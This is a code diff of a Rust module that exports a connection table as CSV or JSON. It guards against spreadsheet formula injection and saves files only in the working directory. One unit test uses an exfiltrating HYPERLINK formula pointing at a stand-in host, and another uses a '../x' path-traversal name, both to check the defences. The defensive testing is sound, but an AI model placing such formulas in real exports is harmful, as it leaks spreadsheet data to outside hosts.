@@ -1,23 +1,22 @@
 //! The table as a file, and a row as a line: for other programs and for reports.
 //!
-//! Fields are named as in the operator's `connections`, as far as the picture has them, and never change their names.
-//! Rooms are counted here, spans are whole seconds, and what is not known is `null`, so that every row has every field.
+//! Fields have the names of the operator's `connections`, and never change them. Rooms are a count, spans are whole
+//! seconds, and an unknown value is `null`, so that every row has every field.
 
 use std::fmt::Write as _;
 use std::fs::{self, File};
 use std::io::{self, Write as _};
 use std::path::{Component, Path};
 
-use super::events;
-use super::picture::{Picture, send_q};
-use super::units;
+use super::model::{Model, log, send_q};
 use crate::model::event::Event;
 use crate::model::snapshot::{Flags, Row, Terminal};
+use crate::time;
 
-/// Names tried for one file.
+/// File names that are tried.
 const SAME_NAME_MAX: usize = 100;
 
-/// As what the table is written.
+/// The format of the file.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub(crate) enum Format {
     /// RFC 4180, one row for each connection.
@@ -36,7 +35,6 @@ impl Format {
     }
 }
 
-/// One value of a row.
 enum Value {
     List(Vec<&'static str>),
     None,
@@ -56,18 +54,18 @@ impl From<Option<String>> for Value {
     }
 }
 
-/// The rows at these places of the picture, in this order.
-pub(crate) fn table(picture: &Picture, rows: impl Iterator<Item = usize>, format: Format) -> String {
+/// These rows of the model, in this order.
+pub(crate) fn table(model: &Model, rows: impl Iterator<Item = usize>, format: Format) -> String {
     match format {
-        Format::Csv => csv(picture, rows),
-        Format::Json => json(picture, rows),
+        Format::Csv => csv(model, rows),
+        Format::Json => json(model, rows),
     }
 }
 
 /// A row as `field=value`, for pasting into a report.
-pub(crate) fn one_line(picture: &Picture, index: usize) -> String {
+pub(crate) fn one_line(model: &Model, index: usize) -> String {
     let mut line = String::new();
-    for (name, value) in fields(picture, index) {
+    for (name, value) in fields(model, index) {
         let text = plain(&value);
         if !text.is_empty() {
             // Writing to a String cannot fail.
@@ -82,17 +80,17 @@ pub(crate) fn event_line(entry: &Event) -> String {
     let record = &entry.kind;
     let id = record.subject().map(|id| format!(" {id}")).unwrap_or_default();
     let nick = record.nick().map(|nick| format!(" {nick}")).unwrap_or_default();
-    format!("{} {}{id}{nick} {}", units::time_of_day(entry.at), record.word(), events::wording(record, true))
+    format!("{} {}{id}{nick} {}", time::time_of_day(entry.at), record.word(), log::format_event(record, true))
 }
 
-fn fields(picture: &Picture, index: usize) -> Vec<(&'static str, Value)> {
-    let row = &picture.rows()[index];
-    let end = row.gone_at.unwrap_or(picture.taken().moment);
+fn fields(model: &Model, index: usize) -> Vec<(&'static str, Value)> {
+    let row = &model.rows()[index];
+    let end = row.gone_at.unwrap_or(model.taken().moment);
     let mut fields = vec![
         ("id", Value::Number(row.id.get())),
         ("nick", row.nick.map(|nick| nick.to_string()).into()),
         ("peer", Value::Text(row.peer.to_string())),
-        ("listener", picture.status().listeners.get(usize::from(row.listener)).cloned().into()),
+        ("listener", model.status().listeners.get(usize::from(row.listener)).cloned().into()),
         ("state", Value::Text(row.state.to_string())),
         ("age_s", Value::Number(end.since(row.since).as_secs())),
         ("idle_s", Value::Number(end.since(row.heard).as_secs())),
@@ -150,10 +148,10 @@ fn plain(value: &Value) -> String {
     }
 }
 
-fn csv(picture: &Picture, rows: impl Iterator<Item = usize>) -> String {
+fn csv(model: &Model, rows: impl Iterator<Item = usize>) -> String {
     let mut text = String::new();
     for index in rows {
-        let fields = fields(picture, index);
+        let fields = fields(model, index);
         if text.is_empty() {
             let names: Vec<&str> = fields.iter().map(|(name, _)| *name).collect();
             text = names.join(",") + "\r\n";
@@ -173,14 +171,14 @@ fn cell(value: &Value) -> String {
     if is_chosen && is_run_by_spreadsheets(&text) { quoted(&format!("'{text}")) } else { quoted_cell(&text) }
 }
 
-/// Whether the text begins as formulas do, in full width too, or with what spreadsheets skip before one.
+/// Whether the text begins as formulas do, also in full width, or with characters that spreadsheets skip before one.
 fn is_run_by_spreadsheets(text: &str) -> bool {
     let is_skipped = |c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}';
     let begins_formula = |c: char| ['=', '+', '-', '@', '＝', '＋', '－', '＠'].contains(&c);
     text.starts_with(['\t', '\r', '\n']) || text.trim_start_matches(is_skipped).starts_with(begins_formula)
 }
 
-/// Quotes what RFC 4180 wants quoted, and what parts cells where a comma is the decimal point.
+/// Quotes cells as RFC 4180 requires, and those with a separator of locales whose decimal point is a comma.
 fn quoted_cell(text: &str) -> String {
     if text.contains([',', '"', '\r', '\n', ';', '\t']) { quoted(text) } else { text.to_owned() }
 }
@@ -189,8 +187,8 @@ fn quoted(text: &str) -> String {
     format!("\"{}\"", text.replace('"', "\"\""))
 }
 
-/// Writes a new file into the working directory, under `name` or, where that exists, with a number behind it. Gives the
-/// message for the operator. A file that cannot be written as a whole is removed.
+/// Writes a new file into the working directory: as `name`, or with a number added where that exists. Returns the
+/// notice for the operator. A file that cannot be written completely is removed.
 pub(crate) fn save(name: &str, contents: &str) -> Result<String, String> {
     save_with(name, |file| file.write_all(contents.as_bytes()).and_then(|()| file.sync_all()))
 }
@@ -215,7 +213,7 @@ fn save_with(name: &str, write: impl FnOnce(&mut File) -> io::Result<()>) -> Res
         return match write(&mut file) {
             Ok(()) => Ok(format!("saved as {name}")),
             Err(error) => {
-                // It was created here, so nobody else's file is removed.
+                // This process created the file, so no other file is removed.
                 let _ = fs::remove_file(&name);
                 Err(format!("not saved: {name}: {error}"))
             }
@@ -224,10 +222,10 @@ fn save_with(name: &str, write: impl FnOnce(&mut File) -> io::Result<()>) -> Res
     Err(format!("not saved: {name} and {SAME_NAME_MAX} names like it exist"))
 }
 
-fn json(picture: &Picture, rows: impl Iterator<Item = usize>) -> String {
+fn json(model: &Model, rows: impl Iterator<Item = usize>) -> String {
     let objects: Vec<String> = rows
         .map(|index| {
-            let members: Vec<String> = fields(picture, index)
+            let members: Vec<String> = fields(model, index)
                 .iter()
                 .map(|(name, value)| format!("\"{name}\":{}", json_value(value)))
                 .collect();
@@ -271,14 +269,14 @@ mod tests {
     use super::*;
 
     #[test]
-    fn hostile_text_stays_inside_its_value() {
+    fn control_and_quote_characters_are_escaped() {
         assert_eq!(json_text("a\"b\\c\n\u{1}é"), "\"a\\\"b\\\\c\\u000a\\u0001é\"");
         assert_eq!(quoted_cell("a,\"b\""), "\"a,\"\"b\"\"\"");
         assert_eq!(quoted_cell("plain"), "plain");
     }
 
     #[test]
-    fn a_cell_that_a_spreadsheet_would_run_is_text() {
+    fn a_cell_that_begins_like_a_formula_is_quoted_as_text() {
         let text = |text: &str| cell(&Value::Text(text.to_owned()));
         for (typed, written) in [
             ("=HYPERLINK(\"http://e.x/\"&A1,\"ok\")", "\"'=HYPERLINK(\"\"http://e.x/\"\"&A1,\"\"ok\"\")\""),
@@ -300,7 +298,7 @@ mod tests {
     }
 
     #[test]
-    fn a_file_is_saved_here_only_and_never_over_another() {
+    fn a_file_is_saved_in_the_working_directory_and_never_replaces_another() {
         assert!(save("../x", "").expect_err("elsewhere").contains("plain file name"));
         assert!(save("", "").is_err() && save("..", "").is_err() && save("a/", "").is_err());
         let stem = format!("chatops-test-{}", std::process::id());
@@ -315,7 +313,7 @@ mod tests {
     }
 
     #[test]
-    fn what_could_not_be_written_as_a_whole_has_no_name() {
+    fn a_file_that_is_written_in_part_is_removed() {
         let name = format!("chatops-test-full-{}.txt", std::process::id());
         let full = save_with(&name, |file| {
             file.write_all(b"half")?;
